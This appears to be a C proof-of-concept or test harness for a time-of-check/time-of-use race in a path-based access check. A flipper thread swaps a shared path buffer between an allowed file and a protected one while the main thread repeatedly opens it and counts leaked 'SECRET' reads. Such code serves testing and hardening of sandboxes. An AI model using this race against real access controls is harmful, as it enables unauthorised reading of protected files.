// A second thread flips a path buffer between an allowed path and a protected one while the
// main thread opens it again and again. Prints how many opens read the protected content.
// usage: vfs_toctou ALLOWED PROTECTED ROUNDS
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char path[4096];
static const char* a;
static const char* b;
static atomic_int stop;

static void* Flipper(void* arg) {
  (void)arg;
  size_t la = strlen(a) + 1, lb = strlen(b) + 1;
  while (!atomic_load(&stop)) {
    memcpy(path, b, lb);
    memcpy(path, a, la);
  }
  return NULL;
}

int main(int argc, char** argv) {
  if (argc != 4) return 2;
  a = argv[1];
  b = argv[2];
  int rounds = atoi(argv[3]);
  memcpy(path, a, strlen(a) + 1);
  pthread_t t;
  pthread_create(&t, NULL, Flipper, NULL);
  int leaked = 0, opened = 0;
  for (int i = 0; i < rounds; ++i) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    ++opened;
    char buf[64] = {0};
    if (read(fd, buf, sizeof buf - 1) > 0 && strncmp(buf, "SECRET", 6) == 0) ++leaked;
    close(fd);
  }
  atomic_store(&stop, 1);
  pthread_join(t, NULL);
  printf("opened=%d leaked=%d\n", opened > 0, leaked);
  return 0;
}
